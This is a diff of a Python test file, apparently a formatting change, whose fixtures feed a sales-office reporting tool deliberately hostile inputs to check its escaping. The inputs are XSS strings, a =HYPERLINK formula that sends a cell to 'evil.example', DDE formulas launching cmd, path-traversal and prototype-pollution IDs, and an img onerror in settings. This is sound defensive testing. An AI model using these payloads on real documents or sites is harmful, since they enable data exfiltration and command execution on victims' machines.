@@ -2,7 +2,17 @@
 
 from itertools import cycle
 
-from tests.method.office import REPS, START, SECOND_REP, all_buyers, customers, deal, held, make_office, promise
+from tests.method.office import (
+    REPS,
+    SECOND_REP,
+    START,
+    all_buyers,
+    customers,
+    deal,
+    held,
+    make_office,
+    promise,
+)
 from tests.method.reading import runner
 
 RAN = "window.ran=1"
@@ -12,7 +22,7 @@ PAYLOADS = (
     "<svg/onload=window.ran=1>",
     "\"><b onmouseover='window.ran=1'>",
     "javascript:window.ran=1",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
     "=cmd|'/C calc'!A0",
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -36,7 +46,20 @@ PAYLOADS = (
     "@@data@@ @@title@@ @@policy@@",
     "🏪 王小明 Ñ é\u0301",
 )
-IDS = ("__proto__", "constructor", "../../x", "=1+1", "CON", "<b>x</b>", "{0}", "%s", "toString", "C'1", "🏪", "a b")
+IDS = (
+    "__proto__",
+    "constructor",
+    "../../x",
+    "=1+1",
+    "CON",
+    "<b>x</b>",
+    "{0}",
+    "%s",
+    "toString",
+    "C'1",
+    "🏪",
+    "a b",
+)
 SETTINGS = """
 [map]
 tiles_attribution = "<img src=x onerror=window.ran=1>"
@@ -54,7 +77,9 @@ def nasty_office(folder):
     reps = [{**one, "name": next(words), "email": next(words)} for one in (*REPS, SECOND_REP)]
     contacts = [one | {"name": next(words)} for one in all_buyers(1)]
     deals = [deal(1, "best_few", value=9000, probability=60), deal(2, "in"), deal(9, "above")]
-    log = [held(n, "2026-12-29", "09:00", "09:30", purpose=next(words), key_points=next(words)) for n in (3, 4)]
+    log = [
+        held(n, "2026-12-29", "09:00", "09:30", purpose=next(words), key_points=next(words)) for n in (3, 4)
+    ]
     rows = {
         "customers": shops,
         "reps": reps,
@@ -93,8 +118,18 @@ def told_by_all(office):
         "territories": ("territories", office, *TODAY),
         "files": ("customers", "file", "--workspace", office, "--all", *TODAY),
         "sheets": ("reports", "sheets", office, *TODAY),
-        "control": ("control", office, "--today", "2027-01-18", "--from", START, "--to", "2027-01-17",
-                    "--out", office / "control"),
+        "control": (
+            "control",
+            office,
+            "--today",
+            "2027-01-18",
+            "--from",
+            START,
+            "--to",
+            "2027-01-17",
+            "--out",
+            office / "control",
+        ),
         "funnel": ("funnel", office, *TODAY),
         "workload": ("workload", office, *TODAY),
         "record": ("record", office, *TODAY),
